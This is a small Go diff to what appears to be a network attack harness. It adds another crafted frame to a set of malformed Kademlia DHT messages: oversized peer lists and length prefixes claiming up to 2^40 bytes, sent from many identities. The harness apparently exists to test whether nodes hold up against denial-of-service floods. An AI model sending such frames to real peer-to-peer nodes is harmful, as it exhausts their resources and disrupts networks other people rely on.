@@ -16,7 +16,7 @@ var attackKad = attack{
 			raw := append([]byte{1<<3 | 0, 4, 2<<3 | 2, 4, 'k', 'e', 'y', 's'}, bytes.Repeat([]byte{8<<3 | 2, 0}, size/2)...)
 			return append(binary.AppendUvarint(nil, uint64(len(raw))), raw...)
 		}
-		frames := [][]byte{peers(16000), peers(4 << 20), binary.AppendUvarint(nil, 4<<20), binary.AppendUvarint(nil, 1<<40)}
+		frames := [][]byte{peers(1000), peers(16000), peers(4 << 20), binary.AppendUvarint(nil, 4<<20), binary.AppendUvarint(nil, 1<<40)}
 		return t.crowd(ctx, identities, func(s *stranger) {
 			n := 0
 			s.streams(ctx, 4, kadID, func(st network.Stream) {
